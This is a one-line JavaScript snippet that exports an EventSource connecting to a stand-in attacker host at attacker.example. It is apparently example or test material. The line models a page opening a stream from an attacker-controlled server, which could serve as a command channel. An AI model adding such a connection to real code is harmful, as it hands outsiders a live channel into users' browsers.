export const es = new EventSource('https://attacker.example/stream')
